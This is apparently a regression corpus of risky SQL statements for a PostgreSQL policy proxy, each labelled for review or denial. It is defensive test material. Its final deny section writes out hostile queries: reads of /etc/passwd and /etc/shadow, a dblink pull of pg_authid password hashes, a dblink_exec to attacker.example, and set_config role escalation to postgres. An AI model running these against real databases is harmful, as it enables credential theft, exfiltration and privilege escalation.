-- pgproxy policy corpus: RISKY statements (security regression suite).
--
-- Every case must be held (review) or refused (deny) under the demo catalog and policy
-- (DESIGN.md "Demo data"; tests/corpora/README.md). A case listed here that is allowed
-- is a security bug. Format, classes and [markers]: tests/corpora/README.md.
-- Objects beyond the demo data (crm.notes, "AuditLog", customer_contacts, order_summary,
-- order_count(), archive_orders()) come from tests/corpora/setup.sql.
-- Nothing above the first "-- expect:" line belongs to a case.

-- expect: review | select-list: reads customers.email
SELECT email FROM customers WHERE id = 1;

-- expect: review | select-list: reads name and phone next to an untagged id
SELECT id, name, phone FROM customers ORDER BY id LIMIT 10;

-- expect: review | select-list: reads ssn (pii + sensitive)
SELECT ssn FROM customers LIMIT 1;

-- expect: review | select-list: DISTINCT over a tagged column
SELECT DISTINCT name FROM customers;

-- expect: review | select-list: qualified tagged column under a harmless alias
SELECT c.id, c.email AS contact FROM customers c WHERE c.country = 'DE';

-- expect: review | select-list: crm.notes.body is tagged pii
SELECT body FROM crm.notes WHERE id = 1;

-- expect: review | select-list: TABLESAMPLE still reads email
SELECT email FROM customers TABLESAMPLE SYSTEM (10);

-- expect: review | select-list: FROM ONLY still reads email
SELECT email FROM ONLY customers WHERE id = 2;

-- expect: review | where: equality on email
SELECT id FROM customers WHERE email = 'nobody@example.com';

-- expect: review | where: LIKE on ssn inside count(*) query (values leak through the count)
SELECT count(*) FROM customers WHERE ssn LIKE '900-%';

-- expect: review | where: phone IS NOT NULL next to an untagged predicate
SELECT id, plan FROM customers WHERE phone IS NOT NULL AND country = 'US';

-- expect: review | where: ILIKE on crm.notes.body
SELECT id FROM crm.notes WHERE body ILIKE '%refund%';

-- expect: review | where: row comparison containing email
SELECT id FROM customers WHERE (email, country) = ('nobody@example.com', 'US');

-- expect: review | where: full-text match over name
SELECT id FROM customers WHERE to_tsvector('simple', name) @@ to_tsquery('simple', 'ada');

-- expect: review | join-on: ON condition filters on email
SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id AND c.email LIKE '%@example.com';

-- expect: review | join-on: notes joined to customers on name
SELECT n.id FROM crm.notes n JOIN customers c ON c.name = n.author;

-- expect: review | join-on: quoted mixed-case "AuditLog"."Email" in ON
SELECT a.id FROM "AuditLog" a JOIN customers c ON lower(c.email) = lower(a."Email");

-- expect: review | join-on: USING (email) joins on a tagged column
SELECT count(*) FROM customers a JOIN customer_contacts b USING (email);

-- expect: review | join-on: NATURAL JOIN compares id, name and email implicitly
SELECT count(*) FROM customers NATURAL JOIN customer_contacts;

-- expect: review | join-on: self-join on phone
SELECT c1.id FROM customers c1 JOIN customers c2 ON c1.phone = c2.phone AND c1.id < c2.id;

-- expect: review | join-on: unqualified email resolves to the joined customers table
SELECT o.id, email FROM orders o JOIN customers c ON c.id = o.customer_id LIMIT 1;

-- expect: review | order-by: ORDER BY email, only id returned
SELECT id FROM customers ORDER BY email LIMIT 10;

-- expect: review | order-by: ORDER BY ssn DESC NULLS LAST
SELECT id, plan FROM customers ORDER BY ssn DESC NULLS LAST LIMIT 5;

-- expect: review | order-by: ORDER BY an expression over name
SELECT id FROM customers ORDER BY lower(name), id LIMIT 10;

-- expect: review | order-by: ORDER BY inside an aggregate
SELECT string_agg(plan, ',' ORDER BY email) FROM customers;

-- expect: review | group-by: GROUP BY email (select list and HAVING too)
SELECT email, count(*) FROM customers GROUP BY email HAVING count(*) > 1;

-- expect: review | group-by: GROUP BY phone, only counts returned
SELECT count(*) FROM customers GROUP BY phone;

-- expect: review | group-by: ROLLUP over country and name
SELECT country, count(*) FROM customers GROUP BY ROLLUP (country, name);

-- expect: review | group-by: GROUPING SETS including ssn
SELECT plan, count(*) FROM customers GROUP BY GROUPING SETS ((plan), (plan, ssn));

-- expect: review | having: count(DISTINCT email) in HAVING
SELECT country FROM customers GROUP BY country HAVING count(DISTINCT email) > 10;

-- expect: review | having: max(ssn) in HAVING
SELECT plan FROM customers GROUP BY plan HAVING max(ssn) > '950';

-- expect: review | having: bool_or over phone in HAVING
SELECT country, count(*) FROM customers GROUP BY country HAVING bool_or(phone LIKE '+1-202%');

-- expect: review | having: min(body) of crm.notes in HAVING
SELECT customer_id FROM crm.notes GROUP BY customer_id HAVING min(body) IS NOT NULL;

-- expect: review | having: ungrouped email allowed in HAVING by its functional dependency on the primary key
SELECT id FROM customers GROUP BY id HAVING email LIKE 'ada%';

-- expect: review | returning: untagged UPDATE that returns email
UPDATE customers SET plan = 'pro' WHERE id = 1 RETURNING id, email;

-- expect: review | returning: RETURNING * of customers includes the tagged columns
INSERT INTO customers (country, plan) VALUES ('DE', 'free') RETURNING *;

-- expect: review | returning: DELETE ... RETURNING ssn
DELETE FROM customers WHERE id = -1 RETURNING ssn;

-- expect: review | returning: scalar subquery in RETURNING reads email
INSERT INTO orders (customer_id, total, status) VALUES (1, 1.00, 'pending')
RETURNING id, (SELECT c.email FROM customers c WHERE c.id = orders.customer_id);

-- expect: review | returning: whole-row RETURNING customers
UPDATE customers SET plan = plan WHERE id = 2 RETURNING customers;

-- expect: review | function-args: lower(email)
SELECT lower(email) FROM customers WHERE id = 1;

-- expect: review | function-args: coalesce(phone, ...)
SELECT coalesce(phone, 'n/a') FROM customers WHERE id = 1;

-- expect: review | function-args: concat(name, email)
SELECT concat(name, ' <', email, '>') FROM customers LIMIT 5;

-- expect: review | function-args: string_agg(email)
SELECT string_agg(email, ';') FROM customers WHERE country = 'SE';

-- expect: review | function-args: md5(ssn) still derives from ssn
SELECT md5(ssn) FROM customers WHERE id = 1;

-- expect: review | function-args: count(email) (a count of a tagged column reads it)
SELECT count(email) FROM customers;

-- expect: review | function-args: split_part(email) grouped by its result
SELECT split_part(email, '@', 2) AS domain, count(*) FROM customers GROUP BY 1;

-- expect: review | function-args: length(ssn) in WHERE
SELECT id FROM customers WHERE length(ssn) <> 11;

-- expect: review | function-args: format() over ssn
SELECT format('%s', ssn) FROM customers LIMIT 1;

-- expect: review | cte: CTE reads email, outer SELECT *
WITH x AS (SELECT email FROM customers) SELECT * FROM x;

-- expect: review | cte: CTE column-alias list renames ssn to a
WITH x(a) AS (SELECT ssn FROM customers) SELECT count(a) FROM x;

-- expect: review | cte: recursive CTE seeded from email, outer reads only n
WITH RECURSIVE r(n, e) AS (
    SELECT 1, (SELECT email FROM customers WHERE id = 1)
    UNION ALL
    SELECT n + 1, e FROM r WHERE n < 3
)
SELECT n, e FROM r;

-- expect: review | cte: CTE named orders shadows the table and carries email as status
WITH orders AS (SELECT id, email AS status FROM customers) SELECT status FROM orders;

-- expect: review | cte: MATERIALIZED CTE over * then name
WITH c AS MATERIALIZED (SELECT * FROM customers WHERE id < 10) SELECT name FROM c;

-- expect: review | cte: CTE over crm.notes filtered on body
WITH n AS (SELECT customer_id, body FROM crm.notes) SELECT customer_id FROM n WHERE body LIKE '%refund%';

-- expect: review | dml-cte: UPDATE of email inside a CTE
WITH u AS (UPDATE customers SET email = lower(email) WHERE id = 1 RETURNING id) SELECT count(*) FROM u;

-- expect: review | dml-cte: DELETE without WHERE hidden in a CTE
WITH d AS (DELETE FROM orders RETURNING customer_id) SELECT count(*) FROM d;

-- expect: review | dml-cte: INSERT into the tagged crm.notes.body inside a CTE
WITH i AS (INSERT INTO crm.notes (customer_id, body, author) VALUES (1, 'called', 'agent') RETURNING id)
SELECT id FROM i;

-- expect: review | dml-cte: DELETE in a CTE feeding an INSERT that copies email into notes
WITH moved AS (DELETE FROM orders WHERE id = -1 RETURNING customer_id)
INSERT INTO crm.notes (customer_id, body)
SELECT m.customer_id, c.email FROM moved m JOIN customers c ON c.id = m.customer_id;

-- expect: review | dml-cte: UPDATE without WHERE in a CTE behind SELECT count(*)
WITH u AS (UPDATE orders SET status = 'void' RETURNING 1) SELECT count(*) FROM u;

-- expect: review | subquery: scalar subquery reads email
SELECT o.id, (SELECT c.email FROM customers c WHERE c.id = o.customer_id) FROM orders o WHERE o.id = 1;

-- expect: review | subquery: EXISTS filters on ssn
SELECT o.id FROM orders o
WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id AND c.ssn LIKE '9%')
LIMIT 5;

-- expect: review | subquery: IN (SELECT ... WHERE email ...)
SELECT id FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE email LIKE '%@example.com') LIMIT 5;

-- expect: review | subquery: = ANY (SELECT phone ...)
SELECT id FROM customers WHERE phone = ANY (SELECT phone FROM customers WHERE country = 'US') LIMIT 1;

-- expect: review | subquery: derived table renames name to x
SELECT s.x FROM (SELECT name AS x FROM customers) s LIMIT 1;

-- expect: review | subquery: correlated subquery compares to the outer c.name
SELECT c.id FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.status = c.name);

-- expect: review | subquery: unqualified email inside a subquery on orders resolves to the outer customers
SELECT id, (SELECT count(*) FROM orders o WHERE o.status = email) FROM customers LIMIT 5;

-- expect: review | subquery: ARRAY(SELECT phone ...)
SELECT ARRAY(SELECT phone FROM customers ORDER BY id LIMIT 3);

-- expect: review | subquery: FROM-less scalar subquery referencing the outer email
SELECT id, (SELECT email) FROM customers LIMIT 1;

-- expect: review | lateral: LATERAL subquery reads email
SELECT o.id, x.e
FROM orders o, LATERAL (SELECT c.email AS e FROM customers c WHERE c.id = o.customer_id) x
LIMIT 5;

-- expect: review | lateral: LATERAL jsonb_each_text over the whole customers row
SELECT c.id, j.key, j.value FROM customers c CROSS JOIN LATERAL jsonb_each_text(to_jsonb(c)) AS j WHERE c.id = 1;

-- expect: review | lateral: LEFT JOIN LATERAL with a predicate on the outer ssn
SELECT c.id, n.cnt
FROM customers c
LEFT JOIN LATERAL (SELECT count(*) AS cnt FROM orders o WHERE o.status = c.ssn) n ON true
LIMIT 5;

-- expect: review | lateral: LATERAL unnest of the split name
SELECT c.id, u.part FROM customers c, LATERAL unnest(string_to_array(c.name, ' ')) AS u(part) LIMIT 5;

-- expect: review | set-op: UNION of country and email
SELECT country FROM customers UNION SELECT email FROM customers;

-- expect: review | set-op: UNION ALL of order ids and ssn
SELECT id::text FROM orders UNION ALL SELECT ssn FROM customers;

-- expect: review | set-op: INTERSECT of email and "AuditLog"."Email"
SELECT email FROM customers INTERSECT SELECT "Email" FROM "AuditLog";

-- expect: review | set-op: EXCEPT against name
SELECT plan FROM customers EXCEPT SELECT name FROM customers;

-- expect: review | set-op: parenthesised UNION branch reads phone
SELECT status FROM orders WHERE id = 1 UNION (SELECT phone FROM customers ORDER BY id LIMIT 1);

-- expect: review | set-op: UNION inside a derived table filtered on email
SELECT count(*) FROM (SELECT id FROM orders UNION SELECT id FROM customers WHERE email IS NULL) u;

-- expect: review | column-alias-list: e is the third column of customers, i.e. email
SELECT e FROM customers AS c(a, b, e) LIMIT 1;

-- expect: review | column-alias-list: "country" here is the alias of column 2 (name); the real country became region
SELECT country FROM customers AS c(id, country, e, p, s, region) LIMIT 1;

-- expect: review | column-alias-list: c.plan is the alias of column 3 (email); the real plan became tier
SELECT c.plan FROM customers c(id, name, plan, phone, ssn, country, tier) LIMIT 1;

-- expect: review | column-alias-list: alias list on a derived table renames ssn to b
SELECT x.b FROM (SELECT id, ssn FROM customers) AS x(a, b) LIMIT 1;

-- expect: review | column-alias-list: alias list on the tagged view renames name to label
SELECT t.label FROM customer_contacts AS t(i, label) LIMIT 1;

-- expect: review | column-alias-list: "id" is the alias of "AuditLog" column 2, i.e. "Email"
SELECT id FROM "AuditLog" AS a(x, id) LIMIT 1;

-- expect: review | column-alias-list: same text as a benign case except the list: here a is column 2 (name)
SELECT a FROM customers AS c(b, a) WHERE b < 5;

-- expect: review | star: SELECT * FROM customers
SELECT * FROM customers WHERE id = 1;

-- expect: review | star: c.* of customers
SELECT c.* FROM customers c WHERE c.country = 'DE';

-- expect: review | star: count(c.*) references the whole row
SELECT count(c.*) FROM customers c;

-- expect: review | star: o.*, c.* over a join
SELECT o.*, c.* FROM orders o JOIN customers c ON c.id = o.customer_id LIMIT 1;

-- expect: review | star: id, * (star after a column)
SELECT id, * FROM customers LIMIT 1;

-- expect: review | star: * of crm.notes
SELECT * FROM crm.notes LIMIT 5;

-- expect: review | star: * with LIMIT 0 still references every column (result metadata)
SELECT * FROM customers LIMIT 0;

-- expect: review | star: (c).* composite expansion
SELECT (c).* FROM customers c LIMIT 1;

-- expect: review | whole-row: SELECT c FROM customers c
SELECT c FROM customers c LIMIT 1;

-- expect: review | whole-row: SELECT customers FROM customers (table name as row)
SELECT customers FROM customers LIMIT 1;

-- expect: review | whole-row: row_to_json(c)
SELECT row_to_json(c) FROM customers c WHERE id = 1;

-- expect: review | whole-row: to_jsonb(c) minus two keys still carries name and phone
SELECT to_jsonb(c) - 'email' - 'ssn' FROM customers c WHERE id = 1;

-- expect: review | whole-row: c::text
SELECT c::text FROM customers c LIMIT 1;

-- expect: review | whole-row: ROW(c.*)
SELECT ROW(c.*) FROM customers c LIMIT 1;

-- expect: review | whole-row: md5 of the row text
SELECT md5(c::text) FROM customers c;

-- expect: review | whole-row: count(DISTINCT c)
SELECT count(DISTINCT c) FROM customers c;

-- expect: review | whole-row: json_agg over crm.notes rows
SELECT json_agg(n) FROM crm.notes n;

-- expect: review | whole-row: row_to_json of a derived row holding name
SELECT row_to_json(t) FROM (SELECT id, name FROM customers) t LIMIT 1;

-- expect: review | whole-row: whole row compared in WHERE (c IS NOT NULL tests every column)
SELECT id FROM customers c WHERE c IS NOT NULL LIMIT 1;

-- expect: review | whole-row: ORDER BY the whole row (sorts by name, email...)
SELECT id FROM customers c ORDER BY c LIMIT 5;

-- expect: review | whole-row: jsonb_path_query picks ssn out of to_jsonb(c)
SELECT jsonb_path_query(to_jsonb(c), '$.ssn') FROM customers c LIMIT 1;

-- expect: review | whole-row: scalar subquery returns a customers row cast to text
SELECT (SELECT c FROM customers c WHERE c.id = o.customer_id)::text FROM orders o WHERE o.id = 1;

-- expect: review | table-stmt: TABLE customers
TABLE customers;

-- expect: review | table-stmt: TABLE public.customers with ORDER BY / LIMIT
TABLE public.customers ORDER BY id LIMIT 5;

-- expect: review | table-stmt: TABLE crm.notes
TABLE crm.notes;

-- expect: review | table-stmt: TABLE of the tagged view
TABLE customer_contacts;

-- expect: review | table-stmt: TABLE "AuditLog"
TABLE "AuditLog";

-- expect: review | view: email through the customer_contacts view
SELECT email FROM customer_contacts WHERE id = 1;

-- expect: review | view: * of the tagged view
SELECT * FROM customer_contacts LIMIT 10;

-- expect: review | view: count(DISTINCT name) through the schema-qualified view
SELECT count(DISTINCT name) FROM public.customer_contacts;

-- expect: review | view: view column used only in a join predicate
SELECT o.id FROM orders o JOIN customer_contacts cc ON cc.id = o.customer_id WHERE cc.email LIKE 'ada%';

-- expect: review | view: UPDATE through the auto-updatable tagged view
UPDATE customer_contacts SET email = 'new@example.com' WHERE id = 1;

-- expect: review | view: INSERT through the tagged view
INSERT INTO customer_contacts (name, email) VALUES ('Test User', 'test@example.com');

-- expect: review | view: DELETE through the tagged view filtered on email
DELETE FROM customer_contacts WHERE email = 'nobody@example.com';

-- expect: review | copy: COPY customers TO STDOUT
COPY customers TO STDOUT;

-- expect: review | copy: COPY customers (email) TO STDOUT as CSV
COPY customers (email) TO STDOUT WITH (FORMAT csv, HEADER true);

-- expect: review | copy: COPY (query over ssn) TO STDOUT
COPY (SELECT ssn FROM customers) TO STDOUT;

-- expect: review | copy: COPY of an untagged table TO STDOUT is an export
COPY orders TO STDOUT;

-- expect: review | copy: COPY (untagged query) TO STDOUT is an export
COPY (SELECT id, total FROM orders WHERE status = 'pending') TO STDOUT WITH (FORMAT csv);

-- expect: review | copy: COPY (SELECT * FROM the tagged view) TO STDOUT
COPY (SELECT * FROM customer_contacts) TO STDOUT;

-- expect: review | copy: lower-case copy of ssn to stdout
copy public.customers ( ssn ) to stdout;

-- expect: review | copy: COPY FROM STDIN into the tagged crm.notes.body
COPY crm.notes (customer_id, body) FROM STDIN;

-- expect: review | copy: COPY FROM STDIN into customers (name, email)
COPY customers (name, email) FROM STDIN WITH (FORMAT csv);

-- expect: review | copy: COPY FROM STDIN into every customers column
COPY customers FROM STDIN;

-- expect: review | copy: COPY FROM STDIN into "AuditLog" (has "Email")
COPY "AuditLog" FROM STDIN;

-- expect: review | insert-select: email copied into crm.notes.body
INSERT INTO crm.notes (customer_id, body, author) SELECT id, email, 'agent' FROM customers WHERE id = 1;

-- expect: review | insert-select: INSERT into untagged orders selected by ssn
INSERT INTO orders (customer_id, total, status) SELECT id, 0, 'pending' FROM customers WHERE ssn IS NULL;

-- expect: review | insert-select: email copied into "AuditLog"."Email"
INSERT INTO "AuditLog" (id, "Email", action) SELECT id, email, 'export' FROM customers WHERE id = 1;

-- expect: review | insert-select: name laundered into the untagged orders.status
INSERT INTO orders (customer_id, total, status) SELECT id, 0, left(name, 10) FROM customers WHERE id = 1;

-- expect: review | insert: VALUES into tagged customers columns
INSERT INTO customers (name, email, country, plan) VALUES ('Test User', 'test@example.com', 'DE', 'free');

-- expect: review | insert: INSERT without a column list writes every column, tagged ones too
INSERT INTO customers VALUES (DEFAULT, 'Test User', 'test@example.com', '+1-202-555-0100', '900-00-0000', 'US', 'free', now());

-- expect: review | insert: upsert writing email on conflict
INSERT INTO customers (id, country, plan) VALUES (1, 'US', 'free')
ON CONFLICT (id) DO UPDATE SET email = 'changed@example.com';

-- expect: review | ctas: CREATE TABLE AS over email
CREATE TABLE customer_emails AS SELECT id, email FROM customers;

-- expect: review | ctas: CREATE TEMP TABLE AS over ssn
CREATE TEMP TABLE t_ssn AS SELECT ssn FROM customers;

-- expect: review | ctas: SELECT ... INTO TEMP reads phone and creates a table
SELECT id, phone INTO TEMP phones FROM customers;

-- expect: review | ctas: SELECT INTO creates a table (DDL) even from untagged columns
SELECT id, total INTO TEMP TABLE big_orders FROM orders WHERE total > 400;

-- expect: review | ctas: CREATE MATERIALIZED VIEW over name
CREATE MATERIALIZED VIEW customer_names AS SELECT name FROM customers WITH NO DATA;

-- expect: review | ctas: CREATE TABLE AS TABLE customers
CREATE TABLE IF NOT EXISTS customers_copy AS TABLE customers;

-- expect: review | update: SET email
UPDATE customers SET email = 'new@example.com' WHERE id = 1;

-- expect: review | update: untagged SET, WHERE on email
UPDATE customers SET plan = 'pro' WHERE email = 'nobody@example.com';

-- expect: review | update: multi-column SET (name, phone)
UPDATE customers SET (name, phone) = ('Jane Doe', '+1-202-555-0100') WHERE id = 1;

-- expect: review | update: untagged target assigned from ssn
UPDATE customers SET country = ssn WHERE id = 1;

-- expect: review | update: UPDATE orders ... FROM customers copies email into status
UPDATE orders o SET status = c.email FROM customers c WHERE c.id = o.customer_id AND o.id = 1;

-- expect: review | update: SET crm.notes.body
UPDATE crm.notes SET body = 'redacted' WHERE id = 1;

-- expect: review | update: SET "AuditLog"."Email"
UPDATE "AuditLog" SET "Email" = NULL WHERE id = 1;

-- expect: review | update: SET ssn = DEFAULT
UPDATE customers SET ssn = DEFAULT WHERE id = 1;

-- expect: review | delete: WHERE on email
DELETE FROM customers WHERE email = 'nobody@example.com';

-- expect: review | delete: orders deleted by a subquery on ssn
DELETE FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE ssn = '000-00-0000');

-- expect: review | delete: DELETE ... USING customers with a phone predicate
DELETE FROM orders o USING customers c WHERE c.id = o.customer_id AND c.phone IS NULL;

-- expect: review | delete: WHERE on crm.notes.body
DELETE FROM crm.notes WHERE body LIKE '%refund%';

-- expect: review | delete: WHERE on "AuditLog"."Email"
DELETE FROM "AuditLog" WHERE "Email" = 'user1@example.com';

-- expect: review | merge: MERGE updating email
MERGE INTO customers c
USING (VALUES (1, 'x@example.com')) AS v(id, email)
ON c.id = v.id
WHEN MATCHED THEN UPDATE SET email = v.email;

-- expect: review | merge: MERGE into the untagged orders whose join condition reads ssn
MERGE INTO orders o
USING customers c
ON o.customer_id = c.id AND c.ssn IS NULL
WHEN MATCHED THEN UPDATE SET status = 'flagged';

-- expect: review | merge: MERGE inserting into the tagged crm.notes.body
MERGE INTO crm.notes n
USING (VALUES (1)) AS s(cid)
ON n.customer_id = s.cid AND false
WHEN NOT MATCHED THEN INSERT (customer_id, body) VALUES (s.cid, 'merged note');

-- expect: review | no-where: UPDATE orders without WHERE
UPDATE orders SET status = 'cancelled';

-- expect: review | no-where: DELETE FROM orders without WHERE
DELETE FROM orders;

-- expect: review | no-where: UPDATE without WHERE with RETURNING
UPDATE orders SET total = total * 1.1 RETURNING id;

-- expect: review | no-where: the WHERE is inside a line comment
DELETE FROM orders -- WHERE id = 1
;

-- expect: review | no-where: the WHERE is inside a block comment
DELETE FROM orders /* WHERE id = 1 */;

-- expect: review | no-where: the WHERE is inside a string literal
UPDATE orders SET status = 'WHERE id = 1';

-- expect: review | no-where: DELETE FROM ONLY without WHERE
DELETE FROM ONLY orders;

-- expect: review | no-where: UPDATE ... FROM without WHERE (cross join)
UPDATE orders o SET status = 'x' FROM customers c;

-- expect: review | no-where: untagged column of "AuditLog" updated without WHERE
UPDATE "AuditLog" SET action = 'purged';

-- expect: review | explain-analyze: EXPLAIN ANALYZE executes a read of email
EXPLAIN ANALYZE SELECT email FROM customers;

-- expect: review | explain-analyze: option-list form with BUFFERS and FORMAT JSON
EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT ssn FROM customers WHERE id = 1;

-- expect: review | explain-analyze: British spelling ANALYSE runs a DELETE without WHERE
EXPLAIN (ANALYSE) DELETE FROM orders;

-- expect: review | explain-analyze: ANALYZE true runs an UPDATE of email
EXPLAIN (ANALYZE true) UPDATE customers SET email = email WHERE id = 1;

-- expect: review | explain-analyze: ANALYZE VERBOSE over crm.notes
EXPLAIN ANALYZE VERBOSE SELECT * FROM crm.notes;

-- expect: review | explain-analyze: ANALYZE 1 executes a user function
EXPLAIN (ANALYZE 1, COSTS OFF) SELECT order_count(1);

-- expect: review | explain-analyze: EXPLAIN ANALYZE of CREATE TABLE AS over email
EXPLAIN ANALYZE CREATE TABLE emails_explained AS SELECT email FROM customers;

-- expect: review | prepare-execute: PREPARE of a PII read, executed
PREPARE get_email(int) AS SELECT email FROM customers WHERE id = $1; EXECUTE get_email(1);

-- expect: review | prepare-execute: PREPARE then EXECUTE of an ssn read
PREPARE p_ssn AS SELECT ssn FROM customers; EXECUTE p_ssn;

-- expect: review | prepare-execute: prepared DELETE without WHERE, executed
PREPARE wipe AS DELETE FROM orders; EXECUTE wipe;

-- expect: review | prepare-execute: prepared UPDATE of email with parameters
PREPARE set_mail(int, text) AS UPDATE customers SET email = $2 WHERE id = $1;
EXECUTE set_mail(1, 'x@example.com');

-- expect: review | prepare-execute: a name first prepared benign, then re-prepared over email
PREPARE q AS SELECT 1; DEALLOCATE q; PREPARE q AS SELECT email FROM customers; EXECUTE q;

-- expect: review | cursor: DECLARE CURSOR over email, fetched
DECLARE c_email CURSOR FOR SELECT email FROM customers; FETCH 1 FROM c_email;

-- expect: review | cursor: DECLARE CURSOR over ssn, MOVE counts its rows
DECLARE c_move CURSOR FOR SELECT 1 FROM customers WHERE ssn LIKE '1%'; MOVE ALL IN c_move;

-- expect: review | cursor: WITH HOLD cursor over email runs its query at commit
DECLARE c_hold CURSOR WITH HOLD FOR SELECT email FROM customers;

-- expect: review | cursor: SCROLL WITH HOLD cursor over *, fetched
DECLARE c_all SCROLL CURSOR WITH HOLD FOR SELECT * FROM customers;
FETCH 10 FROM c_all;
CLOSE c_all;

-- expect: review | cursor: cursor over TABLE crm.notes
DECLARE n_cur NO SCROLL CURSOR FOR TABLE crm.notes; FETCH ALL FROM n_cur;

-- expect: review | cursor: BINARY cursor over ssn
DECLARE b_cur BINARY CURSOR FOR SELECT ssn FROM customers WHERE id = 1; FETCH NEXT FROM b_cur;

-- expect: review | window: PARTITION BY email
SELECT id, row_number() OVER (PARTITION BY email ORDER BY id) FROM customers LIMIT 10;

-- expect: review | window: lag(ssn)
SELECT id, lag(ssn) OVER (ORDER BY id) FROM customers LIMIT 5;

-- expect: review | window: named WINDOW partitioned by phone
SELECT id, count(*) OVER w FROM customers WINDOW w AS (PARTITION BY phone) LIMIT 5;

-- expect: review | window: rank() ordered by name
SELECT id, rank() OVER (ORDER BY name) FROM customers LIMIT 5;

-- expect: review | window: first_value(c.email) over a join
SELECT o.id, first_value(c.email) OVER (PARTITION BY o.customer_id ORDER BY o.id)
FROM orders o JOIN customers c ON c.id = o.customer_id LIMIT 5;

-- expect: review | distinct-on: DISTINCT ON (email)
SELECT DISTINCT ON (email) id FROM customers ORDER BY email, id;

-- expect: review | distinct-on: DISTINCT ON (lower(name))
SELECT DISTINCT ON (lower(name)) id, plan FROM customers ORDER BY lower(name), id;

-- expect: review | distinct-on: DISTINCT ON (c.phone) over a join
SELECT DISTINCT ON (c.phone) o.id FROM orders o JOIN customers c ON c.id = o.customer_id ORDER BY c.phone, o.id;

-- expect: review | filter: count(*) FILTER (WHERE email ...)
SELECT count(*) FILTER (WHERE email LIKE '%@example.com') FROM customers;

-- expect: review | filter: sum FILTER (WHERE c.ssn IS NULL) over a join
SELECT sum(o.total) FILTER (WHERE c.ssn IS NULL) FROM orders o JOIN customers c ON c.id = o.customer_id;

-- expect: review | filter: array_agg(id) FILTER on phone
SELECT array_agg(id) FILTER (WHERE phone LIKE '+1-202%') FROM customers;

-- expect: review | case: CASE WHEN email ...
SELECT id, CASE WHEN email LIKE '%@example.com' THEN 'internal' ELSE 'external' END FROM customers LIMIT 5;

-- expect: review | case: simple CASE ssn WHEN ...
SELECT CASE ssn WHEN '900-10-0001' THEN true ELSE false END FROM customers LIMIT 1;

-- expect: review | case: CASE in WHERE picks name for some rows
SELECT id FROM customers WHERE CASE WHEN plan = 'pro' THEN name ELSE country END = 'DE';

-- expect: review | case: sum(CASE WHEN phone IS NULL ...)
SELECT sum(CASE WHEN phone IS NULL THEN 1 ELSE 0 END) FROM customers;

-- expect: review | json-array: array_agg(email)
SELECT array_agg(email) FROM customers WHERE country = 'NL';

-- expect: review | json-array: json_build_object('e', email)
SELECT json_build_object('e', email, 'id', id) FROM customers WHERE id = 1;

-- expect: review | json-array: jsonb_agg(jsonb_build_array(id, ssn))
SELECT jsonb_agg(jsonb_build_array(id, ssn)) FROM customers;

-- expect: review | json-array: ARRAY[name, phone]
SELECT ARRAY[name, phone] FROM customers WHERE id = 1;

-- expect: review | json-array: json_object_agg(id, email)
SELECT json_object_agg(id, email) FROM customers WHERE id < 5;

-- expect: review | json-array: to_json(ARRAY(SELECT body ...))
SELECT to_json(ARRAY(SELECT body FROM crm.notes));

-- expect: review | json-array: xmlelement over email
SELECT xmlelement(name contact, email) FROM customers LIMIT 1;

-- expect: review | cast: email::varchar
SELECT email::varchar FROM customers LIMIT 1;

-- expect: review | cast: CAST(ssn AS bytea)
SELECT CAST(ssn AS bytea) FROM customers LIMIT 1;

-- expect: review | cast: cast of phone in WHERE
SELECT id FROM customers WHERE phone::varchar(20) LIKE '+1%' LIMIT 1;

-- expect: review | cast: function-style cast text(email)
SELECT text(email) FROM customers LIMIT 1;

-- expect: review | functional-notation: email(c) is PostgreSQL's functional notation for c.email
SELECT email(c) FROM customers c WHERE id = 1;

-- expect: review | functional-notation: phone(c) in WHERE
SELECT c.id FROM customers c WHERE phone(c) LIKE '+1-202%' LIMIT 1;

-- expect: review | functional-notation: (c).ssn field selection from the row
SELECT (c).ssn FROM customers c LIMIT 1;

-- expect: review | functional-notation: field selection from a row passed through a subquery
SELECT (x).email FROM (SELECT c AS x FROM customers c) s LIMIT 1;

-- expect: deny | deny-function: pg_read_file of an absolute path [superuser]
SELECT pg_read_file('/etc/passwd');

-- expect: deny | deny-function: pg_read_file with offset and length, relative to the data directory [superuser]
SELECT pg_read_file('postgresql.conf', 0, 200);

-- expect: deny | deny-function: pg_read_binary_file [superuser]
SELECT pg_read_binary_file('/etc/hostname');

-- expect: deny | deny-function: pg_ls_dir in FROM [superuser]
SELECT * FROM pg_ls_dir('.') AS f;

-- expect: deny | deny-function: pg_stat_file [superuser]
SELECT pg_stat_file('PG_VERSION');

-- expect: deny | deny-function: pg_stat_file with missing_ok inside EXISTS [superuser]
SELECT 1 WHERE EXISTS (SELECT 1 WHERE pg_stat_file('/etc/shadow', true) IS NOT NULL);

-- expect: deny | deny-function: lo_import of a server file [superuser]
SELECT lo_import('/etc/passwd');

-- expect: deny | deny-function: lo_export to a server file [superuser]
SELECT lo_export(l.oid, '/tmp/pgproxy-lo-export') FROM pg_largeobject_metadata l;

-- expect: deny | deny-function: lo_get reads large objects
SELECT lo_get(oid) FROM pg_largeobject_metadata;

-- expect: deny | deny-function: lo_from_bytea creates a large object
SELECT lo_from_bytea(0, convert_to('payload', 'UTF8'));

-- expect: deny | deny-function: lo_put writes a large object (created by lo_create)
SELECT lo_put(lo_create(0), 0, '\x00'::bytea);

-- expect: deny | deny-function: dblink to another database reading pg_authid [extension]
SELECT * FROM dblink('dbname=postgres', 'SELECT rolname, rolpassword FROM pg_authid') AS t(n name, p text);

-- expect: deny | deny-function: dblink_exec to a remote host [extension]
SELECT dblink_exec('host=attacker.example dbname=x', 'SELECT 1');

-- expect: deny | deny-function: dblink_connect [extension]
SELECT dblink_connect('exfil', 'dbname=app');

-- expect: deny | deny-function: pg_file_write (adminpack) [extension]
SELECT pg_file_write('/tmp/pgproxy-file-write', 'data', false);

-- expect: deny | deny-function: set_config of role [superuser]
SELECT set_config('role', 'postgres', false);

-- expect: deny | deny-function: set_config of session_authorization [superuser]
SELECT set_config('session_authorization', 'postgres', false);

-- expect: deny | deny-function: set_config with the setting name in upper case (names are case-insensitive) [superuser]
SELECT set_config('ROLE', 'postgres', true);

-- expect: deny | deny-function: query_to_xml runs SQL from a string (reading ssn)
SELECT query_to_xml('SELECT ssn FROM customers', true, false, '');

